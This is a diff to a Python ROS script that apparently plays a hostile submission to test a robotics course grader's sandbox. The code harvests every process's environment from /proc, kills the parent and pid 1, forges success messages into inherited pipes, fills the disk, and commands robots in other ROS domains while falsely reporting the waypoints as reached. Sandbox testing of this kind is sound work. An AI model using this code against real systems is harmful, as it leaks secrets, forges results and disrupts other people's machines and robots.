@@ -10,13 +10,19 @@ ancestors' and the simulator's command lines say, then reports honestly; tamper 
 into the course folder the behaviour file names (changes a course, plants one); escape leaves
 a daemon started with env -i in a session of its own, and prints its pid; kill_simulator ends
 the simulator (found through the graph: the pid in its publisher's DDS id); flood sends
-a thousand robot_status messages; hog allocates 8 GB. Each prints what it did.
+a thousand robot_status messages; hog allocates 8 GB. As root's grade_lab would meet them:
+kill_reaper kills its parent and pid 1, then escapes; status_pipe writes `started 1` and
+`exit 0` into every pipe it holds, then escapes; fill_disk writes into its home until the
+disk is full; intrude commands robot0 backwards in the first ten ROS domains (another course's
+among them, were it reachable) while it reports; honest runs waypoint_controller. Each prints
+what it did.
 """
 
 import math
 import os
 from pathlib import Path
 import signal
+import stat
 import subprocess
 import sys
 import time
@@ -27,7 +33,7 @@ import rclpy
 from rclpy.duration import Duration
 from rclpy.node import Node
 from rosgraph_msgs.msg import Clock
-from simulation_interfaces.srv import SetEntityState
+from simulation_interfaces.srv import GetCurrentWorld, SetEntityState
 from std_msgs.msg import String
 
 
@@ -131,6 +137,15 @@ def snoop():
     for entry in os.listdir('/proc'):
         if entry.isdigit() and 'stdr_lite' in cmdline(int(entry)):
             seen.append(f'simulator {entry}: {cmdline(int(entry))}')
+    for entry in os.listdir('/proc'):
+        if entry.isdigit():
+            for name in ('environ', 'cwd'):
+                try:
+                    path = Path(f'/proc/{entry}/{name}')
+                    text = os.readlink(path) if name == 'cwd' else path.read_bytes().decode()
+                    seen.append(f'{name} of {entry}: {text}')
+                except OSError:
+                    continue
     for line in seen:
         say(f'snooped {line}')
 
@@ -149,13 +164,80 @@ def parent_of(pid):
         return 0
 
 
+def current_world(node):
+    client = node.create_client(GetCurrentWorld, '/stdr_lite/get_current_world')
+    if client.wait_for_service(timeout_sec=3.0):
+        future = client.call_async(GetCurrentWorld.Request())
+        rclpy.spin_until_future_complete(node, future, timeout_sec=3.0)
+        if future.result() is not None:
+            world = future.result().world
+            say(f'snooped current world {world.name} at {world.world_resource.uri!r}')
+
+
 def tamper(folder):
     folder = Path(folder)
-    for course in sorted(folder.glob('*.txt')):
-        course.write_text('9.0 9.0 0.0\n')
-        say(f'rewrote {course}')
-    (folder / 'planted.txt').write_text('1.0 2.0 0.0\n')
-    say(f'planted {folder / "planted.txt"}')
+    try:
+        for course in sorted(folder.glob('*.txt')):
+            course.write_text('9.0 9.0 0.0\n')
+            say(f'rewrote {course}')
+        (folder / 'planted.txt').write_text('1.0 2.0 0.0\n')
+        say(f'planted {folder / "planted.txt"}')
+    except OSError as error:
+        say(f'could not write into the courses: {error.strerror}')
+
+
+def kill_reaper():
+    for pid in (os.getppid(), 1):
+        try:
+            os.kill(pid, signal.SIGKILL)
+            say(f'killed pid {pid}')
+        except OSError as error:
+            say(f'could not kill pid {pid}: {error.strerror}')
+
+
+def status_pipe():
+    written = 0
+    for descriptor in range(3, 256):
+        try:
+            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
+                os.write(descriptor, b'started 1\nexit 0\n')
+                written += 1
+        except OSError:
+            continue
+    say(f'wrote into {written} pipes')
+
+
+def fill_disk():
+    written = 0
+    try:
+        with open(Path.home() / 'filler', 'wb') as filler:
+            while True:
+                filler.write(bytes(1 << 20))
+                filler.flush()
+                written += 1
+    except OSError as error:
+        say(f'disk full after {written} MB: {error.strerror}')
+
+
+def intrude(node, goals):
+    """Command robot0 backwards in domains 0 to 9 while reporting this course's goals."""
+    from geometry_msgs.msg import Twist
+    publishers = []
+    for domain in range(10):
+        context = rclpy.Context()
+        rclpy.init(context=context, domain_id=domain)
+        other = rclpy.create_node('intruder', context=context)
+        publishers.append(other.create_publisher(Twist, '/robot0/cmd_vel', 10))
+    say('commanding robot0 in domains 0 to 9')
+    backwards = Twist()
+    backwards.linear.x = -0.5
+    for _ in range(100):
+        for publisher in publishers:
+            publisher.publish(backwards)
+        spin_for(node, 0.05)
+    for number, _ in enumerate(goals, start=1):
+        node.report(status_text(f'WAYPOINT {number}', node.poses[-1]))
+    node.report('FINISHED')
 
 
 def escape():
@@ -204,6 +286,11 @@ def flood(node, goals):
 def main(waypoint_file):
     words = Path('behaviour').read_text().split()
     attack, argument = words[0], (words[1:] or [''])[0]
+    if attack == 'honest':
+        controller = os.path.join(os.path.dirname(sys.executable), 'waypoint_controller')
+        os.execv(controller, [controller, waypoint_file])
+    if attack == 'fill_disk':
+        fill_disk()
     if attack == 'hog':
         say('allocating 8 GB')
         hoard = bytearray(8 << 30)
@@ -221,12 +308,19 @@ def main(waypoint_file):
         kill_simulator(node)
     elif attack == 'flood':
         flood(node, goals)
+    elif attack == 'intrude':
+        intrude(node, goals)
     else:
         if attack in ('snoop', 'tamper'):
             snoop()
+            current_world(node)
         if attack == 'tamper':
             tamper(argument)
-        if attack == 'escape':
+        if attack == 'kill_reaper':
+            kill_reaper()
+        if attack == 'status_pipe':
+            status_pipe()
+        if attack in ('escape', 'kill_reaper', 'status_pipe'):
             escape()
         for number, _ in enumerate(goals, start=1):
             node.report(status_text(f'WAYPOINT {number}', node.poses[-1]))
